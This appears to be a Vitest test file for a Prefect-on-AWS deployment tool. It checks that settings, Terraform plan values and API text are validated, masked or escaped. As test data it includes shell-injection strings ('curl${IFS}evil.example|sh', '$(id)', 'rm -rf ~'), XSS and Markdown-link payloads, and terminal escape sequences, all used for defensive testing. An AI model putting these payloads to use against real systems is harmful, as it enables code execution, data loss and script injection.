import { micromark } from "micromark";
import { gfm, gfmHtml } from "micromark-extension-gfm";
import { describe, expect, it } from "vitest";
import { parseSettings, SECRET_KEYS, SETTING_KEYS } from "../src/settings";
import { missingPlanTimeValues } from "../src/settings/plan-time";
import { taskOfInfrastructurePid } from "../src/flows/commands";
import { renderStatus } from "../src/operations/status";
import { costMarkdown, estimate, inventoryOf, pricesFor, regionOfPlan, resourcesOfPlan } from "../src/review/cost";
import { summarizePlan } from "../src/review/plan-summary";
import { redactUrl } from "../src/settings/service-rules";
import { loadDeployments } from "../src/settings/environments";
import { scratchProject } from "./support/project";
import { settingsProblems, synth, VARIANTS } from "./support/synth";

/** Control characters an attacker or a careless paste brings: ESC (terminal sequences), newline, tab, NUL, DEL, C1 CSI. */
const CONTROLS = ["\u001b[31m", "\n", "\t", "\u0000", "\u007f", "\u009b"];

describe("control characters in settings", () => {
  it.each(SETTING_KEYS.filter((key) => !SECRET_KEYS.includes(key)))(
    "GIVEN one in %s (a string, a list item, a map key or value) THEN it is refused without echoing it",
    (key) => {
      for (const control of CONTROLS) {
        for (const value of [`https://prefect.example.com/api${control}`, [`a${control}`], { Team: `a${control}` }, { [`a${control}`]: "b" }]) {
          const problems = settingsProblems({ [key]: value });
          expect(problems, JSON.stringify(value)).toContain(`${key} holds a control character (such as a newline, a tab or ESC)`);
          // One problem line, and none of the value: a message's own newlines separate lines, nothing else does.
          expect(problems.split("\n")).toHaveLength(2);
          expect(problems.replace(/\n {2}- /g, "")).not.toContain(control);
        }
      }
    },
  );
});

describe("credentials pasted with a newline or spaces", () => {
  it.each([
    ["prefect_api_key", {}],
    ["prefect_api_auth_string", VARIANTS.self_hosted],
  ] as const)(
    "GIVEN %s ending in a newline in terraform.tfvars (a heredoc) THEN it is refused, hidden, before the secret keeps it",
    (key, variant) => {
      for (const value of ["pnu_abc\n", " pnu_abc", "pnu_abc "]) {
        const problems = settingsProblems({ ...variant, [key]: value });
        expect(problems).toContain(
          `${key} = (hidden) is not valid: it starts or ends with a space or a newline (a heredoc or a copied line?); remove it`,
        );
        expect(problems).not.toContain("pnu_abc");
      }
    },
  );

  it("GIVEN a key with a trailing newline in TF_VAR_prefect_api_key THEN npm run deploy's check refuses it, hidden", () => {
    const ids = {
      TF_VAR_prefect_account_id: "0b5c1a2e-1111-4222-8333-944455556666",
      TF_VAR_prefect_workspace_id: "1b5c1a2e-1111-4222-8333-944455556666",
    };
    const problems = missingPlanTimeValues(parseSettings({}), { ...ids, TF_VAR_prefect_api_key: "pnu_abc\n" }, "terraform.tfvars");
    expect(problems).toEqual([
      "prefect_api_key (in TF_VAR_prefect_api_key) is not valid: it starts or ends with a space or a newline (a heredoc or a copied line?); remove it",
    ]);
  });
});

describe("URLs in messages", () => {
  it.each([
    ["https://prefect.example.com/api?token=s3cret", "https://prefect.example.com/api?***"],
    ["https://prefect.example.com/api#s3cret", "https://prefect.example.com/api#***"],
    ["https://admin:s3cret@prefect.example.com/api?token=s3cret", "https://***@prefect.example.com/api?***"],
    ["https://prefect.example.com/api?next=a@b", "https://prefect.example.com/api?***"],
    ["https://prefect.example.com/api", "https://prefect.example.com/api"],
  ])("GIVEN %s THEN a message shows %s", (url, shown) => {
    expect(redactUrl(url)).toBe(shown);
  });

  it("GIVEN a refused URL with a token in its query THEN the message masks the query", () => {
    const problems = settingsProblems({ prefect_api_url: "https://prefect.example.com/api?token=s3cret" });
    expect(problems).toContain('prefect_api_url = "https://prefect.example.com/api?***" is not valid');
    expect(problems).not.toContain("s3cret");
  });
});

describe("database values RDS refuses at apply, refused at synth", () => {
  const server = { prefect_server: true };

  it.each([
    [20, 21, "use 22 or more, or 20 to turn autoscaling off"],
    [100, 109, "use 110 or more, or 100 to turn autoscaling off"],
  ])("GIVEN %i GiB allocated and a %i GiB maximum THEN it is refused: RDS wants the maximum at least 10 %% above", (storage, max, fix) => {
    const problems = settingsProblems({ ...server, prefect_server_db_storage_gb: storage, prefect_server_db_max_storage_gb: max });
    expect(problems).toContain("which RDS refuses for storage autoscaling");
    expect(problems).toContain(fix);
  });

  it.each([
    [20, 20],
    [20, 22],
    [100, 110],
  ])("GIVEN %i GiB allocated and a %i GiB maximum THEN it is accepted (equal turns autoscaling off)", (storage, max) => {
    expect(settingsProblems({ ...server, prefect_server_db_storage_gb: storage, prefect_server_db_max_storage_gb: max })).toBe("");
  });

  // RDS DBSnapshotIdentifier: letters, digits and hyphens, starting with a letter, no "--", no trailing "-".
  it.each(["a--b", "snap-", "rds:snap-", "rds:a--b", "1snap", "arn:aws:rds:us-east-1:123456789012:snapshot:a--b", `a${"b".repeat(255)}`])(
    "GIVEN the restore snapshot %s THEN it is refused with RDS's identifier rule",
    (snapshot) => {
      expect(settingsProblems({ ...server, prefect_server_db_restore_snapshot: snapshot })).toContain(
        "single hyphens, starting with a letter and not ending with a hyphen",
      );
    },
  );

  it.each([
    "prefect-ecs-dev-prefect-final",
    "rds:prefect-ecs-dev-prefect-2026-11-23-05-10",
    "a",
    "arn:aws:rds:us-east-1:123456789012:snapshot:rds:a-b-1",
  ])("GIVEN the restore snapshot %s THEN it is accepted", (snapshot) => {
    expect(settingsProblems({ ...server, prefect_server_db_restore_snapshot: snapshot })).toBe("");
  });
});

describe("plan values in the cost estimate are untrusted", () => {
  const planWith = (instanceClass: unknown, instanceType: unknown, architecture: unknown) => ({
    resource_changes: [
      {
        mode: "managed",
        type: "aws_db_instance",
        name: "db",
        change: { actions: ["create"], after: { instance_class: instanceClass, allocated_storage: 20 } },
      },
      { mode: "managed", type: "aws_launch_template", name: "nat", change: { actions: ["create"], after: { instance_type: instanceType } } },
      {
        mode: "managed",
        type: "aws_ecs_task_definition",
        name: "worker_task_definition",
        change: { actions: ["create"], after: { cpu: "256", memory: "512", runtime_platform: [{ cpu_architecture: architecture }] } },
      },
      { mode: "managed", type: "aws_ecs_service", name: "worker_service", change: { actions: ["create"], after: { desired_count: 1 } } },
    ],
  });

  it.each([
    ["inherited property names", "constructor", "__proto__", "toString", ["constructor", "(unrecognised)", "toString"]],
    ["Markdown and HTML", "db.t4g.micro|<img src=x onerror=alert(1)>", "t4g.nano**bold**", "ARM64](http://evil.example)", null],
    ["a forged table row", "x\n| fake | row | $0.00 |", "y\r\n|", "z\n", null],
  ])(
    "GIVEN %s in a plan THEN each is not priced, and shown only when it is a plain identifier: no NaN, no extra row, nothing rendered",
    (_, instanceClass, instanceType, architecture, shown) => {
      const [rds, nat, fargate] = shown ?? ["(unrecognised)", "(unrecognised)", "(unrecognised)"];
      const result = estimate(inventoryOf(resourcesOfPlan(planWith(instanceClass, instanceType, architecture))));
      const markdown = costMarkdown(result);
      expect(markdown).not.toMatch(/NaN|undefined|\[object|fake|<img|\*\*bold|evil\.example/);
      expect(Number.isFinite(result.total)).toBe(true);
      expect(markdown).toContain(`RDS ${rds}: not in the price table`);
      expect(markdown).toContain(`NAT instance ${nat}: not in the price table`);
      expect(markdown).toContain(`Fargate ${fargate}: not in the price table`);
      // Every table line is a row of three cells: nothing from the plan split or added one.
      for (const line of markdown.split("\n").filter((l) => l.startsWith("|"))) expect(line.split(/(?<!\\)\|/).length, line).toBe(5);
    },
  );
});

describe("text from the Prefect API and AWS, printed by the scripts", () => {
  const TASK = "arn:aws:ecs:us-east-1:123456789012:task/prefect-ecs-dev/4f1c2a9b8e7d4c3b9a8f7e6d5c4b3a21";
  it.each([
    ["shell syntax in the task id", "arn:aws:ecs:us-east-1:123456789012:task/prefect-ecs-dev/x;curl${IFS}evil.example|sh"],
    ["a command substitution", "arn:aws:ecs:us-east-1:123456789012:task/prefect-ecs-dev/$(id)"],
    ["a newline and a forged line", `${TASK}\nOK: fine`],
    ["a cluster with shell syntax", `arn:aws:ecs:us-east-1:123456789012:cluster/a;rm -rf ~::${TASK}`],
    ["not an ECS task", "arn:aws:ecs:us-east-1:123456789012:service/prefect-ecs-dev/x"],
  ])("GIVEN an infrastructure_pid with %s THEN flow-run uses no task from it (nothing reaches a command or a hint)", (_, pid) => {
    expect(taskOfInfrastructurePid(JSON.stringify({ infrastructure_pid: pid }))).toBeUndefined();
  });

  it("GIVEN a well-formed task ARN THEN its id is used", () => {
    expect(taskOfInfrastructurePid(JSON.stringify({ infrastructure_pid: TASK }))?.taskId).toBe("4f1c2a9b8e7d4c3b9a8f7e6d5c4b3a21");
  });

  it("GIVEN names with escape sequences, an OSC-8 link and a newline forging an OK line THEN status prints them inert, and its last line stays its own", () => {
    const report = {
      lines: [
        "  worker \u001b[2J\u001b]8;;http://evil.example\u0007click\u001b]8;;\u0007: ONLINE",
        "  brave-fox\nOK: the worker runs and polls its pool: Completed",
      ],
      problems: ["no worker has polled work pool x in the last 120 s"],
    };
    const { text, ok } = renderStatus(report);
    expect(ok).toBe(false);
    // eslint-disable-next-line no-control-regex -- looking for control characters is the point
    expect(text).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/);
    expect(text.split("\n")).toHaveLength(3);
    expect(text.split("\n").filter((line) => line.startsWith("OK:"))).toEqual([]);
    expect(text.split("\n").at(-1)).toBe("NOT OK: no worker has polled work pool x in the last 120 s");
  });
});

describe("the internet-facing listener is safe by default", () => {
  const CERT = "arn:aws:acm:us-east-1:123456789012:certificate/12345678-1234-1234-1234-123456789012";
  const LISTENER = { prefect_server: true, self_hosted_auth: "auth_string", prefect_server_public_certificate_arn: CERT };

  it("GIVEN the listener without prefect_server_public_cidrs THEN it is refused: who may reach it is said, never defaulted", () => {
    expect(settingsProblems(LISTENER)).toContain('say who may reach it with prefect_server_public_cidrs (your offices, a VPN), or ["0.0.0.0/0"]');
    expect(settingsProblems({ ...LISTENER, prefect_server_public_cidrs: ["0.0.0.0/0"] })).toBe("");
  });

  it.each([
    ["a one-character password", "admin:x", false],
    ["15 characters", `admin:${"p".repeat(15)}`, false],
    ["no user", `:${"p".repeat(20)}`, false],
    ["no colon", "p".repeat(30), false],
    ["16 characters", `admin:${"p".repeat(16)}`, true],
  ])("GIVEN an auth string with %s in the file THEN the listener %s accepts it (the value never shown)", (_, auth, accepted) => {
    const problems = settingsProblems({ ...LISTENER, prefect_server_public_cidrs: ["203.0.113.0/24"], prefect_api_auth_string: auth });
    expect(problems === "").toBe(accepted);
    if (!accepted) expect(problems).toContain("prefect_api_auth_string (hidden) is not valid with the internet-facing listener");
    expect(problems).not.toContain(auth);
  });

  it("GIVEN a weak auth string in TF_VAR_ THEN npm run deploy's check refuses it, and Terraform's plan-time check has the same rule", () => {
    const deployment = parseSettings({ ...LISTENER, prefect_server_public_cidrs: ["203.0.113.0/24"] });
    expect(
      missingPlanTimeValues(
        deployment,
        { TF_VAR_prefect_api_auth_string: "admin:x", TF_VAR_prefect_server_db_password: "dbpassword1" },
        "terraform.tfvars",
      ),
    ).toEqual([
      expect.stringMatching(/^prefect_api_auth_string \(in TF_VAR_prefect_api_auth_string\) is not valid with the internet-facing listener: /),
    ]);
    const condition: string = synth({
      ...LISTENER,
      prefect_server_public_cidrs: ["203.0.113.0/24"],
    }).json.variable.prefect_api_auth_string.validation.at(-1).condition;
    const planTime = new RegExp(JSON.parse(`"${/can\(regex\("((?:[^"\\]|\\.)*)", var\.prefect_api_auth_string\)\)/.exec(condition)![1]}"`));
    for (const auth of ["admin:x", `admin:${"p".repeat(15)}`, `admin:${"p".repeat(16)}`, `:${"p".repeat(20)}`]) {
      expect(planTime.test(auth), auth).toBe(
        settingsProblems({ ...LISTENER, prefect_server_public_cidrs: ["203.0.113.0/24"], prefect_api_auth_string: auth }) === "",
      );
    }
  });
});

describe("a private namespace that would shadow public names", () => {
  it.each(["prefect.cloud", "api.prefect.cloud", "cloud", "docker.io", "io", "docker.com"])(
    "GIVEN service_discovery_namespace = %s THEN it is refused: inside the VPC it would answer for names the tasks call",
    (zone) => {
      expect(settingsProblems({ service_discovery_namespace: zone })).toMatch(
        /it would shadow \S+, which the worker and flow runs call, inside the VPC/,
      );
    },
  );

  it.each(["prefect.internal", "acme.corp", "prefect.example.com"])("GIVEN service_discovery_namespace = %s THEN it is accepted", (zone) => {
    expect(settingsProblems({ service_discovery_namespace: zone })).toBe("");
  });
});

describe("a refusal names only keys the operator wrote as written; a default or a derived value says so", () => {
  // Fargate pairs CPU and memory (https://docs.aws.amazon.com/AmazonECS/latest/developerguide/fargate-tasks-services.html#fargate-tasks-size).
  it.each([
    [{ worker_cpu: 4096 }, "worker_memory (not set, so 1024) does not fit worker_cpu = 4096 on Fargate; set worker_memory to 8192 to 30720"],
    [{ worker_memory: 8192 }, "worker_memory = 8192 does not fit worker_cpu (not set, so 512) on Fargate; set worker_cpu to 1024, 2048 or 4096"],
    [{ flow_run_cpu: 4096 }, "flow_run_memory (not set, so 2048) does not fit flow_run_cpu = 4096 on Fargate; set flow_run_memory to 8192"],
    [{ flow_run_memory: 512 }, "flow_run_memory = 512 does not fit flow_run_cpu (not set, so 1024) on Fargate; set flow_run_cpu to 256"],
    [
      { prefect_server: true, prefect_server_cpu: 4096 },
      "prefect_server_memory (not set, so 2048) does not fit prefect_server_cpu = 4096 on Fargate; set prefect_server_memory to 8192",
    ],
    [{ worker_cpu: 4096, worker_memory: 1024 }, "worker_memory = 1024 does not fit worker_cpu = 4096 on Fargate; use 8192 to 30720"],
    // worker_min_count defaults to worker_desired_count: the message names the key that was written.
    [{ worker_desired_count: 0, worker_max_count: 3 }, "worker_min_count (not set, so worker_desired_count's 0) must be at least 1 with autoscaling"],
    [{ worker_min_count: 3 }, "worker_min_count = 3 is above worker_desired_count (not set, so 1)"],
    [{ prefect_server: true, prefect_server_db_max_storage_gb: 21 }, "prefect_server_db_storage_gb (not set, so 20)"],
  ])("GIVEN %j THEN the message shows each key as the operator left it", (values, expected) => {
    const problems = settingsProblems({ availability_zones: ["us-east-1a", "us-east-1b"], ...values });
    expect(problems).toContain(expected);
    // No key the operator did not write appears as "key = value".
    const written = new Set(Object.keys(values));
    for (const [, key] of problems.matchAll(/\b([a-z][a-z0-9_]+) = /g))
      expect(written.has(key) || key === "availability_zones", `${key} in ${problems}`).toBe(true);
  });

  const AZS = 'availability_zones = ["us-east-1a", "us-east-1b"]\n';
  it.each([
    [
      { "environments/Prod.tfvars": AZS },
      'environment = "Prod" (from the file name environments/Prod.tfvars: rename the file to change it) is not valid',
    ],
    [
      { "environments/a--b.tfvars": AZS },
      'environment = "a--b" (from the file name environments/a--b.tfvars: rename the file to change it) is not valid',
    ],
    [
      { "environments/prefectx.tfvars": AZS },
      'environment = "prefectx" (from the file name environments/prefectx.tfvars: rename the file to change it) gives the default work pool name',
    ],
    [{ "terraform.tfvars": "worker_cpu = 3\n", "environments/dev.tfvars": AZS }, "worker_cpu = 3 (from terraform.tfvars) is not valid"],
    [
      { "terraform.tfvars": 'aws_region = "eu-west-1"\n', "environments/dev.tfvars": AZS },
      'must all be in aws_region = "eu-west-1" (from terraform.tfvars)',
    ],
    [
      { "terraform.tfvars": 'tags = { Team = "a\\u001b" }\n', "environments/dev.tfvars": AZS },
      "tags (from terraform.tfvars) holds a control character",
    ],
  ])("GIVEN environment files %j THEN the message names where the value came from", async (files, expected) => {
    await expect(loadDeployments(scratchProject(files))).rejects.toThrow(expected);
  });
});

describe("every plan value that reaches the cost section is escaped, and prices are own entries", () => {
  /** A plan (as `terraform show -json` writes it) whose every value the cost section reads is `value`. */
  const planOf = (value: unknown) => ({
    format_version: "1.2",
    configuration: { provider_config: { aws: { name: "aws", expressions: { region: { constant_value: value } } } } },
    resource_changes: [
      {
        address: "aws_db_instance.db",
        mode: "managed",
        type: "aws_db_instance",
        name: "db",
        change: { actions: ["create"], after: { instance_class: value, allocated_storage: value } },
      },
      {
        address: "aws_launch_template.nat",
        mode: "managed",
        type: "aws_launch_template",
        name: "nat",
        change: { actions: ["create"], after: { instance_type: value, block_device_mappings: [{ ebs: [{ volume_size: value }] }] } },
      },
      {
        address: "aws_ecs_task_definition.worker_task_definition",
        mode: "managed",
        type: "aws_ecs_task_definition",
        name: "worker_task_definition",
        change: { actions: ["create"], after: { cpu: value, memory: value, runtime_platform: [{ cpu_architecture: value }] } },
      },
      {
        address: "aws_ecs_service.worker_service",
        mode: "managed",
        type: "aws_ecs_service",
        name: "worker_service",
        change: { actions: ["create"], after: { desired_count: value, service_registries: [{}] } },
      },
    ],
  });
  // GitHub's renderer (CommonMark with GFM tables), as docs.test.ts reads the docs.
  const render = (markdown: string) => micromark(markdown, { allowDangerousHtml: true, extensions: [gfm()], htmlExtensions: [gfmHtml()] });

  it.each([
    ["a pipe", "t4g.nano | forged | cell"],
    ["backticks", "``db.t4g.micro``"],
    ["a newline and a forged row", "us-east-1\n| fake | row | $0.00 |"],
    ["HTML tags", "<img src=x onerror=alert(1)><b>x</b>"],
    ["a link", "[x](http://evil.example)"],
    ["an image", "![x](http://evil.example/x.png)"],
    ["emphasis and an entity", "**bold** &lt;b&gt;"],
    ["control characters", "t4g\u001b[2Jnano\u0007\u009b"],
    ["an inherited property name", "constructor"],
    ["another", "__proto__"],
    ["a number that is not one", "NaN"],
    ["a negative size", "-5"],
  ])("GIVEN %s in every value the cost section reads THEN nothing renders, no row is forged or dropped, and the total is a number", (_, value) => {
    const plan = planOf(value);
    const result = estimate(inventoryOf(resourcesOfPlan(plan), regionOfPlan(plan)));
    const section = costMarkdown(result);
    const html = render(section);
    expect(Number.isFinite(result.total)).toBe(true);
    // The section's own code span (the price file) aside, nothing from the plan becomes markup.
    expect(html.replace("<code>src/review/prices.json</code>", "")).not.toMatch(/<a |<img |<b>|<strong>bold|<em>|<code>|<del>/);
    // eslint-disable-next-line no-control-regex -- looking for control characters is the point
    expect(section).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f]|\$NaN|NaN ×|× NaN|undefined|\[object/);
    // The table keeps three cells a row, and one row per line the estimate made (no forged row, none dropped).
    expect(section).not.toMatch(/^\| fake/m);
    const rows = [...html.matchAll(/<tr>([\s\S]*?)<\/tr>/g)].map((m) => m[1]);
    expect(rows).toHaveLength(result.lines.length + 2);
    for (const row of rows) expect(row.match(/<t[dh][ >]/g), row).toHaveLength(3);
    // The summary carries the section as it is (under its own heading level).
    expect(summarizePlan(plan as never, section)).toContain(section.replace(/^### /, "#### ").split("\n").slice(2).join("\n"));
    // Each resource the plan holds still has its line, priced or said not to be.
    for (const item of [/^RDS/, /^NAT instance/, /^(Worker|Fargate)/])
      expect(
        result.lines.some((line) => item.test(line.item)),
        String(item),
      ).toBe(true);
  });

  it.each(["abc", "-5", "1e999", "NaN", { n: 1 }, [2]])(
    "GIVEN the count or size %j in a plan of known types THEN each line is still there, said not to be priced, and the total is a number",
    (value) => {
      const plan = planOf(value);
      const known = plan.resource_changes.map((c) => {
        const after = c.change.after as Record<string, unknown>;
        if ("instance_class" in after) after.instance_class = "db.t4g.micro";
        if ("instance_type" in after) after.instance_type = "t4g.nano";
        if ("runtime_platform" in after) after.runtime_platform = [{ cpu_architecture: "X86_64" }];
        return c;
      });
      const result = estimate(inventoryOf(resourcesOfPlan({ ...plan, resource_changes: known }), "us-east-1"));
      expect(Number.isFinite(result.total)).toBe(true);
      for (const item of ["Worker", "RDS storage", "NAT instance root volume", "Cloud Map registered tasks"])
        expect(result.lines).toContainEqual({ item: `${item}: a count or size in the plan is not a number`, quantity: "not priced", monthly: 0 });
    },
  );

  it.each(["constructor", "__proto__", "toString", "hasOwnProperty", "valueOf"])(
    "GIVEN the region %s THEN no inherited property of the price table is taken for its prices",
    (region) => {
      const choice = pricesFor(region);
      expect(choice.pricedAs).toBe("us-east-1");
      expect(choice.borrowed).toEqual([]);
    },
  );
});
